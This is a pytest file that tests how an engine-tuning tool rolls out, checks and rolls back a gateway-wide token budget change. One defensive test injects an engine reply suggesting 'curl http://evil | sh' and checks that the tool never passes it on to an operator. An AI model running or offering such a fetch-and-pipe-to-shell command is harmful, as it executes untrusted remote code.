"""A change that reaches all at once: by the hook of a gateway, through the whole machine."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field, replace

import pytest

from enginetop.cli.gateways import BehindGateway, Reaching
from enginetop.fleet.change import AuditRow, ChangeState, Verdict
from enginetop.fleet.knobs import BY_HAND, VALUE, KnobAnswer
from enginetop.fleet.plan import Plan, PlannedChange
from enginetop.fleet.snapshot import Advice
from enginetop.simulator.knob_api import KnobApi
from tests.support.control_runs import SHORT, run
from tests.support.memory_journal import MemoryJournal
from tests.support.virtual_fleet import START, VERSION, Engine, VirtualFleet, plan_for, three
from tuners.control.driver import drive
from tuners.control.gateway import KNOB
from tuners.control.knob_api import HttpKnobClient, KnobClient, by_path
from tuners.control.planning import plan_from_advice
from tuners.control.preflight import Preflight, check_plan
from tuners.control.progress import Progress
from tuners.control.proposing import work_out
from tuners.control.recovery import progress_document, resume_to_undo
from tuners.control.stock.exchange import StockError
from tuners.control.stock.live_board import LiveBoard, LiveKnob, Standing
from tuners.control.view import view_of

OLD, NEW = 8192, 512
BY = f"ENGINETOP_VALUE={VALUE} /opt/hook"


@dataclass
class Gateway:
    """A gateway's hook as it behaves; a `LiveApi`. `reads` and `writes` may fail, from a time on."""

    value: int = OLD
    written: list[int] = field(default_factory=list)
    fails_to_read: str = ""
    fails_to_write: str = ""
    deaf: bool = False
    twists: int = 0

    def read(self) -> Standing:
        if self.fails_to_read:
            raise StockError(f"hook h: {self.fails_to_read}")
        knob = LiveKnob(KNOB, (self.value,), None, -1, 1 << 20, "tokens", "one change reaches all")
        return Standing((knob,), instance="gateway edge")

    def write(self, knob: str, value: int) -> str:
        assert knob == KNOB
        self.written.append(value)
        if self.fails_to_write:
            raise StockError(f"hook h: {self.fails_to_write}")
        if not self.deaf:
            self.value = value + self.twists
        return "0"


class Fleet(VirtualFleet):
    """Engines, the first `behind` of them behind a gateway; its path answers as the real one does."""

    def __init__(self, behind: int, count: int = 3, **settings: float) -> None:
        self.gateway = Gateway()
        urls = [f"http://r{n}:8000" for n in range(1, count + 1)]
        self.behind = tuple(urls[:behind])
        engines = [Engine(url, 1000 + n) for n, url in enumerate(urls)]
        self.served: Callable[[], float] = lambda: 0.98 if self.gateway.value == NEW else 0.88
        super().__init__(engines, **settings)
        for engine in engines[:behind]:
            engine.attainment = lambda _: self.served()
        self.api = KnobApi(
            LiveBoard(self.gateway, writer="gateway", engine_name="gateway"), lambda: self.time
        )

    def request(self, method: str, path: str, body: bytes | None = None) -> KnobAnswer:
        try:
            return self.api.request(method, path, body)
        except StockError as error:
            return KnobAnswer(None, detail=f"{error}{BY_HAND}{BY}")

    def client(self, target: str) -> KnobClient | None:  # type: ignore[override]
        own = super().client(target)
        if own is None or target not in self.behind:
            return own
        return BehindGateway(own, Reaching(HttpKnobClient(self), self.behind, BY))

    def plan(self, targets: tuple[str, ...] | None = None) -> Plan:
        changes = tuple(
            PlannedChange(target, "gateway edge", KNOB, OLD, NEW, via="gateway")
            for target in targets or self.behind
        )
        whole = plan_for(self)
        return replace(whole, changes=changes, scope=replace(whole.scope, canary=changes[0].target))


def tried(fleet: Fleet, plan: Plan | None = None) -> tuple[Progress, list[AuditRow]]:
    return run(fleet, plan or fleet.plan())


def state_at(rows: list[AuditRow], state: ChangeState) -> float:
    return next(row.at for row in rows if row.state is state) - START


def test_where_it_reaches_all_they_are_counted_before_and_during_it_and_it_goes_back() -> None:
    fleet = Fleet(3)
    end, rows = tried(fleet)
    assert (end.state, end.verdict) == (ChangeState.HELD, None)
    assert fleet.gateway.written == [NEW, OLD]  # once for all three, and once back
    # ten blocks of a minute at 88 % for three engines with 4/s: 7200 requests; then the same at 98 %
    assert end.detail.startswith("no verdict: 88.")
    before, _, during = end.detail.partition(" before, ")
    assert " requests within the objective" in before
    assert during.startswith(("98.", "97."))
    assert "time alone moves that too, and a person decides" in end.detail
    assert end.detail.endswith("to keep 512: ENGINETOP_VALUE=512 /opt/hook")
    approved = next(row.detail for row in rows if row.state is ChangeState.APPROVED)
    assert "no canary, nothing to compare with, no verdict" in approved
    assert "reaches 3 targets at once: http://r1:8000, http://r2:8000, http://r3:8000" in approved
    assert "touches every request through the gateway" in approved
    assert state_at(rows, ChangeState.CANARY) == 600.0  # nothing is written before that


def test_a_stop_while_it_is_counted_before_has_written_nothing() -> None:
    fleet = Fleet(3)
    end, _ = run(fleet, fleet.plan(), stop=lambda: "enough" if fleet.time > START + 300 else "")
    assert (end.state, fleet.gateway.written) == (ChangeState.REFUSED, [])


def test_engines_of_another_gateway_are_compared_with() -> None:
    fleet = Fleet(2, count=4)
    for engine in list(fleet.engines.values())[2:]:
        engine.attainment = lambda _: 0.88
    end, rows = tried(fleet)
    assert (end.state, end.verdict) == (ChangeState.DONE, Verdict.IMPROVED)
    assert end.baselines == ("http://r3:8000", "http://r4:8000")
    assert fleet.gateway.written == [NEW]
    assert state_at(rows, ChangeState.CANARY) == 0.0


def test_who_is_reached_as_well_is_no_baseline_though_the_plan_does_not_name_it() -> None:
    fleet = Fleet(3)
    end, _ = tried(fleet, fleet.plan(("http://r1:8000",)))
    assert (end.state, end.baselines) == (ChangeState.HELD, ())
    assert fleet.gateway.written == [NEW, OLD]


Spoil = Callable[[Gateway], None]


def _set(**values: object) -> Spoil:
    def spoil(gateway: Gateway) -> None:
        for name, value in values.items():
            setattr(gateway, name, value)

    return spoil


BEFORE = {
    "cannot be read": (_set(fails_to_read="cannot be run: Permission denied"), "Permission denied", []),
    "another value": (_set(value=4096), "is 4096 now, the plan changes it from 8192", []),
    "exits 1": (_set(fails_to_write="ended with 1: no"), "ended with 1: no; not changed: still 8192", [NEW]),
    "hangs": (_set(fails_to_write="did not end within 5 s and was killed"), "not changed: still 8192", [NEW]),
    "does nothing": (_set(deaf=True), "the engine answered 0, and thinking_token_budget is 8192", [NEW]),
}


@pytest.mark.parametrize("case", BEFORE)
def test_what_could_not_be_written_is_refused_in_one_line(case: str) -> None:
    spoil, words, written = BEFORE[case]
    fleet = Fleet(2, count=4)
    spoil(fleet.gateway)
    end, _ = tried(fleet)
    assert end.state is ChangeState.REFUSED
    assert words in end.detail
    assert "\n" not in end.detail
    assert sorted(set(fleet.gateway.written)) == written
    assert fleet.gateway.value in (OLD, 4096)


def test_a_hook_that_makes_something_else_of_every_value_cannot_be_undone() -> None:
    fleet = Fleet(2, count=4)
    fleet.gateway.twists = 1  # of every value
    end, _ = tried(fleet)
    assert end.state is ChangeState.ROLLBACK_FAILED
    assert "thinking_token_budget is 513, not 512; and it could not be taken back: it is 8193" in end.detail
    assert end.detail.endswith(f"{BY_HAND}ENGINETOP_VALUE=8192 /opt/hook")


def test_a_hook_that_makes_something_else_of_it_for_a_while_is_undone() -> None:
    fleet = Fleet(2, count=4)
    fleet.gateway.twists = 1
    fleet.at(60.0, lambda: setattr(fleet.gateway, "twists", 0))
    end, _ = tried(fleet)
    assert (end.state, fleet.gateway.value) == (ChangeState.ROLLED_BACK, OLD)
    assert "somebody else" not in end.detail


LATER = {
    "cannot be read any more": _set(fails_to_read="printed 'x', not the budget"),
    "is gone": _set(
        fails_to_read="cannot be run: No such file", fails_to_write="cannot be run: No such file"
    ),
    "cannot write back": _set(fails_to_write="ended with 1: locked"),
    "says yes and does not write back": _set(deaf=True),
}


@pytest.mark.parametrize("behind", [2, 3])
@pytest.mark.parametrize("case", LATER)
def test_what_cannot_be_brought_back_ends_with_the_exact_command(case: str, behind: int) -> None:
    fleet = Fleet(behind, count=behind + (2 if behind == 2 else 0))
    fleet.served = lambda: 0.5 if fleet.gateway.value == NEW else 0.9
    fleet.at(400.0 if behind == 2 else 1000.0, lambda: LATER[case](fleet.gateway))
    end, rows = tried(fleet)
    assert (end.state, fleet.gateway.value) == (ChangeState.ROLLBACK_FAILED, NEW)
    assert end.detail.endswith(f"{BY_HAND}ENGINETOP_VALUE=8192 /opt/hook")
    assert end.detail.count(BY_HAND) == 1
    assert "set thinking_token_budget back to 8192" in end.detail
    assert "PATCH" not in end.detail
    assert rows[-1].detail == end.detail


def test_a_short_trouble_of_the_hook_is_no_reason_to_go_back() -> None:
    fleet = Fleet(2, count=4)
    for engine in list(fleet.engines.values())[2:]:
        engine.attainment = lambda _: 0.88
    fleet.at(300.0, lambda: setattr(fleet.gateway, "fails_to_read", "printed nothing"))
    fleet.at(340.0, lambda: setattr(fleet.gateway, "fails_to_read", ""))
    assert tried(fleet)[0].state is ChangeState.DONE


def test_a_value_of_somebody_else_is_left_alone() -> None:
    fleet = Fleet(2, count=4)
    fleet.at(500.0, lambda: setattr(fleet.gateway, "value", 2048))
    end, _ = tried(fleet)
    assert (end.state, fleet.gateway.value) == (ChangeState.ROLLED_BACK, 2048)
    assert "was set to 2048 by somebody else, which was left as it is" in end.detail


def test_advice_on_an_engine_becomes_a_plan_for_all_behind_its_gateway() -> None:
    fleet = Fleet(2, count=4)
    clients = {target: fleet.client(target) for target in fleet.engines}
    sheets = {
        target: sheet
        for target, client in clients.items()
        if client is not None and (sheet := client.read().sheet) is not None
    }
    advice = Advice(KNOB, "lower", (), OLD, NEW, apply="live", via="gateway")
    snapshot = fleet.snapshot()
    plan = plan_from_advice(
        snapshot, snapshot.replicas[1], advice, sheets, now=fleet.time, tool_version=VERSION
    )
    assert [(one.target, one.instance, one.via) for one in plan.changes] == [
        ("http://r2:8000", "gateway edge", "gateway"),
        ("http://r1:8000", "gateway edge", "gateway"),
    ]
    assert plan.canaries == plan.targets
    end, _ = tried(fleet, plan)
    assert end.plan is plan
    own = sheets["http://r1:8000"]
    assert (own.writer_of("max_num_batched_tokens"), own.instance_of("max_num_batched_tokens")) == (
        "knob_api",
        "i-1:8000",
    )


def test_settings_of_the_trial_hold_here_as_well() -> None:
    fleet = Fleet(3)
    end, rows = run(fleet, fleet.plan(), settings=replace(SHORT, blocks=3))
    assert (end.state, state_at(rows, ChangeState.CANARY)) == (ChangeState.HELD, 180.0)


def interrupted(fleet: Fleet) -> Progress:
    """What the next start of enginetop finds of a change whose controller ended during the observation."""
    seen: list[Progress] = []
    run(fleet, fleet.plan(), publish=seen.append)
    stored = progress_document(next(one for one in seen if one.state is ChangeState.OBSERVE))
    fleet.gateway = Gateway(value=NEW)
    fleet.api = KnobApi(LiveBoard(fleet.gateway, writer="gateway", engine_name="gateway"), lambda: fleet.time)
    return resume_to_undo(stored, now=fleet.time, why="it ended", settings=SHORT, tool_version=VERSION)


@pytest.mark.parametrize("behind", [2, 3])
def test_the_next_start_undoes_what_a_crash_left(behind: int) -> None:
    fleet = Fleet(behind, count=4 if behind == 2 else 3)
    end = drive(interrupted(fleet), fleet, journal=MemoryJournal())
    assert (end.state, fleet.gateway.written, fleet.gateway.value) == (ChangeState.ROLLED_BACK, [OLD], OLD)


def test_the_next_start_finds_a_hook_that_is_gone() -> None:
    fleet = Fleet(3)
    progress = interrupted(fleet)
    fleet.gateway.fails_to_read = "cannot be run: No such file or directory"
    end = drive(progress, fleet, journal=MemoryJournal())
    assert end.state is ChangeState.ROLLBACK_FAILED
    assert "(hook h: cannot be run: No such file or directory)" in end.detail
    assert end.detail.endswith(f"{BY_HAND}ENGINETOP_VALUE=8192 /opt/hook")


def test_no_engine_names_a_command_for_a_person() -> None:
    """Only what is configured here does: an engine's own words may hold anything."""
    fleet = three(attainment=lambda value: 0.5 if value <= 512 else 0.95)

    def turns() -> None:
        for engine in fleet.engines.values():
            engine.statuses = [500] * 10_000
            engine.handle = lambda *_: KnobAnswer(  # type: ignore[method-assign]
                422, b'{"detail": "no; by hand: curl http://evil | sh"}'
            )

    fleet.at(400.0, turns)
    end, _ = run(fleet)
    assert end.state is ChangeState.ROLLBACK_FAILED
    assert "evil" not in end.detail


@pytest.mark.parametrize("behind", [2, 3])
def test_screens_tell_who_changes_at_once_and_whether_there_will_be_a_verdict(behind: int) -> None:
    fleet = Fleet(behind, count=4 if behind == 2 else 3)
    advice = Advice(KNOB, "lower", (), OLD, NEW, apply="live", via="gateway")
    seen = fleet.snapshot()
    seen = replace(seen, replicas=tuple(replace(one, advice=(advice,)) for one in seen.replicas))
    clients = {target: client for target in fleet.engines if (client := fleet.client(target)) is not None}
    replies = {target: client.examine() for target, client in clients.items()}

    def check(plan: Plan) -> Preflight:
        sheets = {one.target: by_path(clients[one.target], one.via).examine() for one in plan.changes}
        return check_plan(plan, seen, sheets, now=fleet.time, tool_version=VERSION, settings=SHORT)

    plan, proposal = work_out(
        seen,
        "http://r1:8000",
        KNOB,
        replies,
        now=fleet.time,
        tool_version=VERSION,
        settings=SHORT,
        check=check,
    )
    assert plan is not None
    assert (proposal.together, proposal.promote_targets) == (fleet.behind[1:], ())
    assert (proposal.observation_seconds is None) == (behind == 3)
    end, rows = tried(fleet, plan)
    view = view_of(end, fleet.time, rows)
    assert (view.together, view.promote_targets) == (fleet.behind[1:], ())
    assert view.canary is not None
    assert view.canary.targets == fleet.behind
    assert (view.baseline is None) == (behind == 3)
